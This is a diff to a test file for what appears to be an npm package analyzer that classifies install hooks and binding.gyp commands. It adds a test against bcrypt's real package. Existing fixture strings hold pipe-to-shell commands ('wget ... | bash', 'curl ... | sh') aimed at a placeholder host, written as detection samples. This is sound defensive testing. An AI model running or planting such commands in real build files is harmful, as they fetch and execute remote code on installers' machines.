@@ -1,8 +1,10 @@
 // What npm runs at install: hook command lines split outside quotes, and binding.gyp's commands (node-gyp runs them
 // at install), each classified as an ordinary build step, package code or a shell command of its own.
+import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { REPO_ROOT } from '../../../../test/corpora.js';
+import { corpusPath, hasCorpora, REPO_ROOT } from '../../../../test/corpora.js';
+import { openRelease } from '../../package/open.js';
 import { releaseOf } from '../release.fixture.js';
 import { commandParts, gypCommands, npmHooks } from './hooks.js';
 import { analyzeSource } from './index.js';
@@ -90,5 +92,16 @@ describe('binding.gyp at install', () => {
   it('reads the .gypi files binding.gyp includes, not other gyp files', () => {
     const r = addon("{ 'includes': ['common.gypi'], 'targets': [] }", { 'common.gypi': "{ 'variables': { 'x': '<!(wget -qO- http://example.invalid/a | bash)' } }", 'deps/other.gyp': "{ 'variables': { 'y': '<!(curl http://example.invalid | sh)' } }" });
     expect(npmHooks(r).map((h) => [h.file, h.shell])).toEqual([['common.gypi', true]]);
+  });
+});
+
+describe.runIf(hasCorpora())('a real native addon', () => {
+  it("bcrypt's binding.gyp (the corpus's benign npm release, read as bytes) gives its commands as ordinary build steps", () => {
+    const bytes = new Uint8Array(readFileSync(corpusPath('packages', 'benign', 'npm', 'bcrypt-6.0.0.tgz')));
+    const release = openRelease(bytes, { filename: 'bcrypt-6.0.0.tgz' });
+    const gyp = npmHooks(release).filter((h) => h.file === 'binding.gyp');
+    expect(gyp.length).toBeGreaterThan(0);
+    expect(gyp.every((h) => h.ordinary && !h.shell)).toBe(true);
+    expect(gyp.map((h) => h.command)).toContain(`node -p "require('node-addon-api').targets"`);
   });
 });
